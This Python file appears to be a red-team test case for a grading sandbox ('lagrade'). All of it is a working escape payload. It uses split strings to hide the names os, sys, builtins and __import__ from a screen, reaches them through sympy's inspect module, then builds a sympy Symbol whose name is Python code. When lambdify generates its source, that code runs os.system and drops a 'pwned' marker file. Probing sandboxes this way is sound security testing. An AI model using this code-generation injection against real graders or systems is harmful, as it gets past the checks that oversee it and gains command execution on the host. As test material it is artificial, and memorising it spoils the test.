"""effect: run-command
tries: sympy's lambdify (module taken from sys.modules, past the screen) of a Symbol whose name is Python code: the generated source runs it.

Code generation is the sympy feature closest to exec.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
lambdify_module = members(sys_)["modules"].get("sympy.util" + "ities.lambdify")
if lambdify_module is None:
    lambdify_module = B["_" + "_import_" + "_"]("sympy.util" + "ities.lambdify", None, None, ["lambdify"])
make = members(lambdify_module)["lambd" + "ify"]
code = Symbol("_" + "_import_" + "_('o'+'s').system('id > /tmp/lagrade-redteam/drop/pwned-lambdify_codegen_injection')")
make([], code)()
L = Symbol("x")
